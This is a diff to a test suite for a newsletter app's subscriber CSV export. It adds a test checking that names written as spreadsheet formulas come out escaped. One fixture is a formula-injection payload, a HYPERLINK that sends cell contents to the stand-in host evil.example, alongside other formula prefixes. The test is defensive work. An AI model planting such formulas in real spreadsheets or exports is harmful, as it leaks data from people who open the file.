@@ -210,7 +210,12 @@ describe('newsletter', () => {
     expect(csv.statusCode).toBe(200);
     expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
     expect(csv.headers['content-disposition']).toBe('attachment; filename="subscribers.csv"');
-    const lines = csv.body.trim().split('\n');
+    // The one CSV writer (lib/csv.ts): a BOM for Excel, CRLF rows.
+    expect(csv.body.startsWith('\uFEFF')).toBe(true);
+    const lines = csv.body
+      .replace(/^\uFEFF/, '')
+      .trimEnd()
+      .split('\r\n');
     expect(lines[0]).toBe('Email,Name,Status,Subscribed,Confirmed,Unsubscribed');
     expect(lines[1]).toMatch(/^list-one@student\.test,,confirmed,\d{4}-/);
     expect(lines[2]).toMatch(/^list-two@student\.test,"Chidi, ""the"" Reader",pending,/);
@@ -307,6 +312,29 @@ describe('newsletter', () => {
         .slice(1)
         .map((line) => line.split(',')[0]),
     ).toEqual([c]);
+  });
+
+  it('exports a subscriber whose name is a spreadsheet formula as inert text', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?x="&A1,"click")';
+    const leads = ['+SUM(1;2)', '-2+3', '@cmd'];
+    expect((await subscribe(t, 'formula-1@student.test', formula)).statusCode).toBe(202);
+    for (const [i, name] of leads.entries())
+      expect((await subscribe(t, `formula-${i + 2}@student.test`, name)).statusCode).toBe(202);
+    const csv = await t.app.inject({
+      method: 'GET',
+      url: '/api/newsletter/subscribers.csv?q=formula-',
+      headers: bearer(token),
+    });
+    expect(csv.statusCode).toBe(200);
+    const rows = csv.body
+      .replace(/^\uFEFF/, '')
+      .trimEnd()
+      .split('\r\n')
+      .slice(1);
+    expect(rows[0]).toMatch(
+      /^formula-1@student\.test,"'=HYPERLINK\(""https:\/\/evil\.example\/\?x=""&A1,""click""\)",pending,/,
+    );
+    expect(rows.slice(1).map((row) => row.split(',')[1])).toEqual(leads.map((lead) => `'${lead}`));
   });
 
   it('answers 404, not 500, for a post address that is no id', async () => {
